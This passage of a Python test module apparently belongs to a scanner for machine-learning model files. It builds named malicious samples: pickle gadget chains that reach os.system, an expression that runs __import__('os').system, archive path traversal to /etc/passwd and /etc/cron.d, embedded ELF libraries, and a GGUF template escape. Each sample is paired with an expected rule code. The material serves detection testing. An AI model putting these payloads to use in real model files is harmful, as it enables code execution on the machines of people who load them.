            answer="",
        ),
        Attack(
            "a script that calls another machine",
            script('y = torch.rpc_sync("a", "b", (x,))'),
            "S120",
            ".pt",
            answer="",
        ),
        Attack(
            "a script with a class of C++",
            script("y = __torch__.torch.classes.dist_c10d.TCPStore(x)"),
            "S120",
            ".pt",
            answer="",
        ),
        Attack(
            "a script for the mobile interpreter",
            script("pass", ("m/bytecode.pkl", stream(("aten::save", ""), protocol=2))),
            "S120",
            ".pt",
            answer="",
        ),
        Attack(
            "an expression of an exported program",
            exported(
                {
                    "graph_module": {
                        "graph": {
                            "tensor_values": {
                                "x": {"sizes": [{"as_expr": {"expr_str": "__import__('os').system('true')"}}]}
                            }
                        }
                    }
                }
            ),
            "S122",
            ".pt2",
            answer="",
            cites=("CVE-2026-4538",),
        ),
        Attack(
            "an expression in escapes",
            exported({}, rb'{"expr\u005fstr": "\u005f\u005fimport\u005f\u005f(\u0027os\u0027)"}'),
            "S122",
            ".pt2",
            answer="",
            cites=("CVE-2026-4538",),
        ),
        Attack(
            "a target of an exported program",
            exported({"graph_module": {"graph": {"nodes": [{"target": "torch.hub.load"}]}}}),
            "S122",
            ".pt2",
            answer="",
        ),
        Attack(
            "a library in a package",
            zipped(
                [
                    ("p/archive_format", b"pt2"),
                    ("p/archive_version", b"0"),
                    ("p/data/aotinductor/model/x.so", b"\x7fELF" + bytes(100)),
                ]
            ),
            "S124",
            ".pt2",
            answer="",
        ),
        Attack(
            "a program among the storages",
            checkpoint(tensors(), ZEROS, ("archive/data/9", b"\x7fELF" + bytes(100))),
            "S124",
            ".pt",
            answer="",
        ),
        Attack(
            "external data above the folder",
            onnx("../../../etc/passwd"),
            "S123",
            ".onnx",
            answer="",
            cites=("CVE-2022-25882", "CVE-2024-27318", "CVE-2024-5187"),
        ),
        Attack("external data at the root", onnx("/etc/passwd"), "S123", ".onnx", answer="", cites=("CVE-2025-51480",)),
        Attack(
            "a member above the folder",
            zipped([("archive/data.pkl", BENIGN), ("archive/../../x", b"x"), ("archive/version", b"3\n")]),
            "S123",
            ".pt",
            answer="",
        ),
        Attack("a member at the root", checkpoint(tensors(), ZEROS, ("/etc/cron.d/x", b"x")), "S123", ".pt", answer=""),
        Attack("a member with a drive", checkpoint(tensors(), ZEROS, ("C:\\x", b"x")), "S123", ".pt", answer=""),
        Attack("a link in a zip archive", symlinked(), "S123", ".pt", answer=""),
        Attack(
            "a link in a tar archive",
            old_tar(stream({}, protocol=2), ("storages2", "/etc/passwd")),
            "S123",
            ".pt",
            answer="",
            cites=("CVE-2025-32434",),
        ),
        Attack(
            "a tar member above the folder",
            old_tar(stream({}, protocol=2), None, ("../../x", b"x")),
            "S123",
            ".pt",
            answer="",
        ),
        Attack(
            "a shard above the folder",
            b"",
            "S123",
            "",
            answer="",
            files=(
                (
                    "model.safetensors.index.json",
                    json.dumps({"metadata": {}, "weight_map": {"w": "../other/model.safetensors"}}).encode(),
                ),
            ),
        ),
        Attack(
            "a template that climbs",
            gguf("{{ ''.__class__.__mro__[1].__subclasses__() }}"),
            "S126",
            ".gguf",
            answer="",
            cites=("CVE-2024-34359",),
        ),
        Attack(
            "torch.package",
            zipped(
                [
                    ("p/.data/extern_modules", b"os\n"),
                    ("p/.data/version", b"6\n"),
                    ("p/model/model.pkl", stream(SYSTEM)),
                    ("p/net.py", b"import os\n"),
                ]
            ),
            "S101",
            ".pt",
        ),
        Attack("a good file", good, "", ".pt", answer=""),
    ][:-1]


# --- our own search for ways past


def gadgets() -> list[Attack]:
    """Streams whose names are all harmless, or that hide what they call."""
    held = stacked("mypackage.tools:run")
    partial = call("functools:partial", stacked("os:system"), COMMAND)
    tool = call("functools:partial", held, COMMAND)
    code = call(
        "cloudpickle.cloudpickle:_make_function",
        call(
            call("cloudpickle.cloudpickle:_builtin_type", "CodeType"), 0, 0, 0, 0, 0, 0, b"", (), (), (), "", "", 0, b""
        ),
        {},
        None,
        None,
        None,
    )
    rebuilt = "torch._utils:_rebuild_tensor_v2"
    deep = stream(SYSTEM)
    for _ in range(8):
        deep = stream({"x": deep})
    return [
        Attack("partial of os.system", stream(partial), "S101"),
        Attack(
            "partial whose state has the function",
            stream(
                Raw(
                    new("functools:partial", stacked("builtins:int")).code
                    + push((stacked("os:system"), (COMMAND,), {}, None))
                    + b"b"
                )
            ),
            "S101",
        ),
        Attack("partial that is called", stream(call(call("functools:partial", stacked("builtins:int"), "1"))), "S109"),
        Attack("partial of a computed value", stream(call("functools:partial", call("collections:deque", []))), "S109"),
        Attack("partial of an unknown function", stream(tool), "S111", answer="needs classes"),
        Attack("a default factory", stream(call("collections:defaultdict", partial)), "S101"),
        Attack(
            "keys() of an object, called by dict",
            stream(call("builtins:dict", new("types:SimpleNamespace", state={"keys": tool}))),
            "S109",
        ),
        Attack(
            "keys() of an object, called by OrderedDict",
            stream(call("collections:OrderedDict", new("types:SimpleNamespace", state={"keys": tool}))),
            "S109",
        ),
        Attack(
            "a format that looks up a key",
            stream(call("operator:mod", "%(x)s", call("collections:defaultdict", tool))),
            "S102",
        ),
        Attack(
            "_rebuild_from_type_v2 calls its first",
            stream(
                call(
                    "torch._tensor:_rebuild_from_type_v2", stacked("os:system"), stacked("torch:Tensor"), (COMMAND,), {}
                )
            ),
            "S101",
        ),
        Attack(
            "_rebuild_from_type_v2 calls a function of torch",
            stream(
                call(
                    "torch._tensor:_rebuild_from_type_v2",
                    stacked("torch:relu"),
                    stacked("torch:Tensor"),
                    (COMMAND,),
                    {},
                )
            ),
            "S107",
        ),
        Attack(
            "_rebuild_from_type_v2 calls what was computed",
            stream(call("torch._tensor:_rebuild_from_type_v2", tool, stacked("torch:Tensor"), (), {})),
            "S109",
        ),
        Attack(
            "_rebuild_from_type_v2 calls an unknown function",
            stream(call("torch._tensor:_rebuild_from_type_v2", held, stacked("torch:Tensor"), (), {})),
            "S111",
            answer="needs classes",
        ),
        Attack(
            "_reconstructor calls its base's constructor",
            stream(call("copyreg:_reconstructor", stacked("collections:OrderedDict"), stacked("torch:Nothing"), "x")),
            "S107",
        ),
        Attack(
            "a class that is computed",
            stream(call("copyreg:_reconstructor", call("builtins:type", 1), stacked("builtins:object"), None)),
            "S109",
        ),
        Attack(
            "a class that a module of torch has imported",
            stream(call("torch.fx.graph_module:PackageImporter", "/nonexistent")),
            "S102",
        ),
        Attack(
            "a wrapper that unpickles its state",
            stream(new("torch.utils.data.dataloader:_MapDataPipeSerializationWrapper", state=(BENIGN, False))),
            "S102",
        ),
        Attack("a layer that is called", stream(call("torch.nn.modules.linear:Linear", 1, 1)), "S107"),
        Attack(
            "numpy's generator calls what it is given",
            stream(call("numpy.random._pickle:__generator_ctor", COMMAND, held)),
            "S109",
        ),
        Attack(
            "numpy's random state calls os.system",
            stream(call("numpy.random._pickle:__randomstate_ctor", COMMAND, stacked("os:system"))),
            "S101",
        ),
        Attack(
            "numpy's bit generator calls a class",
            stream(call("numpy.random._pickle:__bit_generator_ctor", stacked("torch:Nothing"))),
            "S107",
        ),
        Attack(
            "a masked array of what is no class",
            stream(call("numpy.ma.core:_mareconstruct", new("types:SimpleNamespace", state={"x": 1}), 1, (), "b")),
            "S109",
        ),
        Attack(
            "a constructor among the attributes of the base",
            stream(
                call(
                    "copyreg:_reconstructor",
                    stacked("collections:OrderedDict"),
                    new("types:SimpleNamespace", state={"__new__": tool}),
                    None,
                )
            ),
            "S109",
        ),
        Attack(
            "detach() of an object, called by Parameter",
            stream(call("torch.nn.parameter:Parameter", new("types:SimpleNamespace", state={"detach": held}))),
            "S109",
        ),
        Attack(
            "__array__() of an object, called by numpy",
            stream(call("numpy:array", new("argparse:Namespace", state={"__array__": held}))),
            "S109",
        ),
        Attack(
            "keys() of an ordered dict, called by dict",
            stream(
                call(
                    "builtins:dict",
                    Raw(stacked("collections:OrderedDict").code + b")R" + push({"keys": held}) + b"b"),
                )
            ),
            "S109",
        ),
        Attack(
            "attributes of a class that type has given",
            stream(Raw(call("builtins:type", 1).code + push((None, {"x": 1})) + b"b")),
            "S110",
        ),
        Attack(
            "attributes of a method",
            stream(Raw(call("builtins:getattr", new("mypackage:Thing"), "run").code + push((None, {"x": 1})) + b"b")),
            "S110",
        ),
        Attack(
            "attributes of a class in a persistent id",
            b"\x80\x02" + push(("module", name("mypackage:Net"), "x", "x")) + b"Q" + push((None, {"x": 1})) + b"b.",
            "S110",
        ),
        Attack(
            "a state that hides another, behind a thousand oddities",
            b"\x80\x04"
            + b"\x80\x04" * 1001
            + new("mypackage:Thing", state=(None, {"__class__": 1})).code
            + push((None, {}))
            + b"b.",
            "S110",
        ),
        Attack(
            "calls that share what they are given",
            b"\x80\x04"
            + push([0] * 3000)
            + b"q\x000"
            + held.code
            + b"q\x010"
            + b"]("
            + (stacked("builtins:hash").code + b"h\x00\x85R") * 1500
            + b"h\x01e.",
            "S109",
        ),
        Attack("a class made by type", stream(call("builtins:type", "X", (), {"__reduce__": 1})), "S102"),
        Attack("a class made by Enum", stream(call("enum:Enum", "X", "A B")), "S102"),
        Attack("a class made by ABCMeta", stream(call("abc:ABCMeta", "X", (), {})), "S102"),
        Attack("bytecode that is called", stream(call(code)), "S109"),
        Attack(
            "bytecode given to a class", stream(new("torch.nn.modules.module:Module", state={"forward": code})), "S101"
        ),
        Attack("bytecode given to a call", stream(call("collections:defaultdict", code)), "S101"),
        Attack(
            "another type of cloudpickle's", stream(call("cloudpickle.cloudpickle:_builtin_type", "ModuleType")), "S102"
        ),
        Attack(
            "code put into a function of torch",
            stream(call("cloudpickle.cloudpickle:_function_setstate", stacked(rebuilt), ({}, {"__code__": None}))),
            "S110",
        ),
        Attack(
            "a class of cloudpickle's",
            stream(
                call("cloudpickle.cloudpickle:_make_skeleton_class", stacked("builtins:type"), "X", (), {}, "id", None)
            ),
            "S102",
        ),
        Attack("an import by cloudpickle", stream(call("cloudpickle.cloudpickle:subimport", "os")), "S102"),
        Attack("code of dill", stream(call("dill._dill:_create_code", "x")), "S103"),
        Attack(
            "items set on a module's dict",
            b"\x80\x04" + stacked("mypackage:registry").code + push("x") + b"K\x01s.",
            "S110",
        ),
        Attack(
            "an item appended to a module's list", b"\x80\x04" + stacked("mypackage:hooks").code + b"K\x01a.", "S110"
        ),
        Attack(
            "attributes of a module's object",
            b"\x80\x04" + stacked("mypackage:settings").code + push({"debug": True}) + b"b.",
            "S110",
        ),
        Attack(
            "attributes of a class of torch",
            b"\x80\x02" + name("torch.nn.modules.linear:Linear").code + push({"forward": 1}) + b"b.",
            "S110",
        ),
        Attack(
            "attributes of the root logger",
            stream(Raw(call("logging:getLogger", "").code + push({"disabled": True}) + b"b")),
            "S110",
        ),
        Attack(
            "__class__ among the slots",
            stream(new("mypackage:Thing", state=(None, {"__class__": stacked("mypackage:Other")}))),
            "S110",
        ),
        Attack(
            "a state that hides another",
            stream(Raw(new("mypackage:Thing", state=(None, {"__class__": 1})).code + push((None, {})) + b"b")),
            "S110",
        ),
        Attack("an extension code", b"\x80\x02\x82\x01.", "S108", cites=("modelaudit#493",)),
        Attack("an extension code of two bytes, called", b"\x80\x02\x83\x01\x01)R.", "S108"),
        Attack("an extension code of four bytes", b"\x80\x02\x84\x01\x00\x00\x00.", "S108"),
        Attack(
            "a member of an enumeration that is no member",
            stream(call("builtins:getattr", stacked("mypackage:Color"), "__init__")),
            "S102",
        ),
        Attack(
            "a function of torch that reads files",
            stream(call("builtins:getattr", stacked("torch._C:_VariableFunctions"), "from_file")),
            "S102",
        ),
        Attack(
            "a method that is called",
            stream(call(call("builtins:getattr", new("mypackage:Thing"), "run"), "x")),
            "S109",
        ),
        Attack(
            "a method of a path", stream(call("builtins:getattr", call("pathlib:PosixPath", "x"), "write_text")), "S102"
        ),
        Attack(
            "a method handed to a layer",
            stream(call("torchvision.ops.misc:MLP", 1, [1], call("builtins:getattr", new("mypackage:Thing"), "run"))),
            "S109",
        ),
        Attack(
            "getattr that is also held",
            stream([call("builtins:getattr", stacked("mypackage:Color"), "RED"), stacked("builtins:getattr")]),
            "S102",
        ),
        Attack("getitem of no type", stream(call("_operator:getitem", {"x": 1}, "x")), "S102"),
        Attack(
            "a pickle in bytes for _load_from_bytes",
            stream(call("torch.storage:_load_from_bytes", stream(SYSTEM))),
            "S101",
        ),
        Attack(
            "a legacy file in bytes for _load_from_bytes",
            stream(
                call("torch.storage:_load_from_bytes", LEGACY + stream(SYSTEM, {}, protocol=2) + pickle.dumps([], 2))
            ),
            "S101",
        ),
        Attack(
            "a zip in bytes for _load_from_bytes",
            stream(call("torch.storage:_load_from_bytes", checkpoint(stream(SYSTEM)))),
            "S101",
        ),
        Attack(
            "no pickle in bytes for _load_from_bytes",
            stream(call("torch.storage:_load_from_bytes", b"\xff\xff")),
            "S103",
        ),
        Attack(
            "bytes for _load_from_bytes in a zip",
            checkpoint(stream(call("torch.storage:_load_from_bytes", stream(SYSTEM)))),
            "S101",
            ".pt",
        ),
        Attack("_load_from_bytes that is held", stream([stacked("torch.storage:_load_from_bytes")]), "S103"),
        Attack("a pickle in a byte string", stream({"x": stream(SYSTEM)}), "S101", cites=("modelaudit#153",)),
        Attack("a pickle in a long byte string", stream({"x": stream(b"x" * 10_000, SYSTEM)}), "S101"),
        Attack("a pickle of protocol 0 in a byte string", stream({"x": b"cos\nsystem\n(Vtrue\ntR."}), "S101"),
        Attack("a pickle in a byte string that breaks off", stream({"x": stream(SYSTEM)[:-1] + b"\xff"}), "S101"),
        Attack(
            "a long pickle in a byte string that breaks off",
            stream({"x": stream("pad" * 3000, SYSTEM)[:-1] + b"\xff"}),
            "S101",
        ),
        Attack("a pickle deep in pickles", deep, "S115", answer="unknown"),
        Attack("a pickle in a pickle in a pickle", stream({"x": stream({"y": stream(SYSTEM)})}), "S101"),
        Attack("a callback for regular expressions", stream(call("re:sub", "x", tool, "x")), "S107"),
        Attack("a finalizer", stream(call("weakref:finalize", stacked("builtins:object"), tool)), "S102"),
        Attack("LambdaLR calls its function", stream(call("torch.optim.lr_scheduler:LambdaLR", None, tool)), "S109"),
        Attack(
            "a layer that calls its norm",
            stream(call("torchvision.ops.misc:MLP", 1, [1], stacked("torch.random:seed"))),
            "S109",
        ),
        Attack(
            "a function of torch, wrapped",
            stream(
                new(
                    "torch.optim.sgd:SGD",
                    state={
                        "defaults": new(
                            "types:SimpleNamespace",
                            state={"setdefault": call("functools:partial", stacked("torch.nothing.known:run"), "x")},
                        )
                    },
                )
            ),
            "S107",
        ),
        Attack("a function of torch.library", stream(call("torch.library:impl", "aten::relu", "cpu")), "S101"),
        Attack("a download of torchvision", stream(call("torchvision.models.resnet:resnet50", "DEFAULT")), "S107"),
        Attack(
            "a graph whose code is in the file",
            stream(call("torch.fx.graph_module:reduce_graph_module", {"_code": "def forward(self): pass"}, "")),
            "S101",
        ),
        Attack("a name that torch translates", stream(call(name("exec:x"), "1")), "S111", answer="needs classes"),
        Attack("a name with a space", stream(call(name("os :system"), "1")), "S102"),
        Attack("a module of Python within a package", stream(call("six.moves:builtins.eval", "1")), "S102"),
        Attack(
            "a module from the standard library's own test",
            stream(call("test.support:run_in_subinterp", "pass")),
            "S101",
        ),
    ]


def attacks() -> list[Attack]:
    """All of them; the names differ."""
    first = [*named(), *spellings(), *broken(), *containers(), *unread(), *elsewhere(), *gadgets()]
    return [*first, *second_search(), *third_search()]


_BY_NAME = {attack.name: attack for attack in attacks()}
ATTACK_NAMES = list(_BY_NAME)


def by_name(attack: str) -> Attack:
    """The attack of that name."""
    return _BY_NAME[attack]
